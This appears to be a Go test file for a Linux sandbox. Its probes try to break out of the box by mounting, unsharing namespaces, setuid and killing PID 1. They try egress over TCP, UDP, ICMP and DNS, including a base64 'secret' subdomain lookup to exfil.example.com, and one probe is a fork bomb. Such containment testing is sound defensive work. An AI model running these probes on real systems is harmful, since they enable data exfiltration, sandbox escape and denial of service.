//go:build linux

package sandbox_test

import (
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// probes are programs that run in a box.
var probes = map[string]func() error{
	"escape":   probeEscape,
	"io_uring": probeIoUring,
	"calls":    probeCalls,
	"network":  probeNetwork,
	"https":    probeHTTPS,
	"fork":     probeFork,
	"auditor":  probeAuditor,
}

// probeEscape tries what would undo the box.
func probeEscape() error {
	tries := map[string]error{
		"mount":       unix.Mount("x", "/tmp", "tmpfs", 0, ""),
		"unshare net": unix.Unshare(unix.CLONE_NEWNET),
		"user ns":     unix.Unshare(unix.CLONE_NEWUSER),
		"setuid":      unix.Setuid(0),
		"chroot":      unix.Chroot("/tmp"),
		"hostname":    unix.Sethostname([]byte("x")),
	}
	for name, err := range tries {
		if err == nil {
			return fmt.Errorf("%s was allowed", name)
		}
	}
	// init of the box's process namespace cannot be ended from inside
	_ = unix.Kill(1, unix.SIGKILL)
	return nil
}

func probeIoUring() error {
	var params [120]byte
	_, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 0, uintptr(len(params)), 0)
	fmt.Println(errno)
	return nil
}

// probeCalls tells what the kernel says to calls that no namespace contains.
func probeCalls() error {
	allow := []unix.SockFilter{{Code: unix.BPF_RET | unix.BPF_K, K: unix.SECCOMP_RET_ALLOW}}
	prog := unix.SockFprog{Len: 1, Filter: &allow[0]}
	filter := func(flags uintptr) error {
		_, _, errno := unix.Syscall(unix.SYS_SECCOMP, unix.SECCOMP_SET_MODE_FILTER, flags, uintptr(unsafe.Pointer(&prog)))
		return errno
	}
	_, session := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	_, add := unix.AddKey("user", "killdeer-probe", []byte("x"), unix.KEY_SPEC_PROCESS_KEYRING)
	_, request := unix.RequestKey("user", "killdeer-probe", "", 0)
	_, list := os.Open("/proc/keys")
	_, vsock := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	_, pair := unix.Socketpair(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	_, inet := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	var ring uintptr
	_, _, aio := unix.Syscall(unix.SYS_IO_SETUP, 8, uintptr(unsafe.Pointer(&ring)), 0)
	fmt.Println("aio", aio)
	fmt.Println("listener", filter(unix.SECCOMP_FILTER_FLAG_NEW_LISTENER))
	fmt.Println("filter", filter(0))
	fmt.Println("keys", session, add, request, list != nil)
	fmt.Println("sockets", vsock, pair, inet)
	return nil
}

// probeNetwork tries every way out.
func probeNetwork() error {
	for _, addr := range []string{
		"93.184.216.34:80", "93.184.216.34:4444", "169.254.169.254:80", "10.0.0.1:22", "[2606:2800:220:1::1]:80", "[fe80::1%lo]:80",
		"exfil.example.com:80", "exfil.example.com:65000", "198.51.100.1:53",
	} {
		c, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if err != nil {
			fmt.Println(addr, err)
			continue
		}
		fmt.Fprintf(c, "out-by-tcp %s\n\n", addr)
		_ = c.Close()
	}
	for _, addr := range []string{"198.51.100.1:9999", "198.51.100.1:123", "[2001:db8::7]:9999", "[2001:db8::7]:443", "255.255.255.255:9", "224.0.0.251:5353", "[ff02::fb%lo]:5353"} {
		c, err := net.Dial("udp", addr)
		if err == nil {
			_, err = fmt.Fprintf(c, "out-by-udp %s", addr)
			_ = c.Close()
		}
		if err != nil {
			fmt.Println(addr, err)
		}
	}
	_, _ = net.LookupHost("c2VjcmV0.exfil.example.com")
	_, _ = net.LookupTXT("txt.exfil.example.com")
	for _, kind := range []int{unix.SOCK_RAW, unix.SOCK_DGRAM} {
		fd, err := unix.Socket(unix.AF_INET, kind, unix.IPPROTO_ICMP)
		if err != nil {
			continue
		}
		_ = unix.Sendto(fd, []byte("\x08\x00\x00\x00\x00\x00\x00\x00out-by-icmp"), 0, &unix.SockaddrInet4{Addr: [4]byte{198, 51, 100, 1}})
		_ = unix.Close(fd)
		if kind == unix.SOCK_RAW {
			return errors.New("a raw socket was allowed")
		}
	}
	if fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0); err == nil {
		_ = unix.Close(fd)
		return errors.New("a packet socket was allowed")
	}
	return nil
}

func probeHTTPS() error {
	client := http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{MinVersion: tls.VersionTLS12}}}
	res, err := client.Post("https://go.example.com/", "text/plain", strings.NewReader("out-by-go"))
	if err != nil {
		return err
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	fmt.Print(string(b))
	return err
}

// probeFork starts copies of itself as fast as it can, each in a session of its
// own.
func probeFork() error {
	for {
		_, err := os.StartProcess("/proc/self/exe", os.Args, &os.ProcAttr{
			Files: []*os.File{nil, nil, nil}, Sys: &syscall.SysProcAttr{Setsid: true},
		})
		if err != nil {
			time.Sleep(time.Millisecond)
		}
	}
}
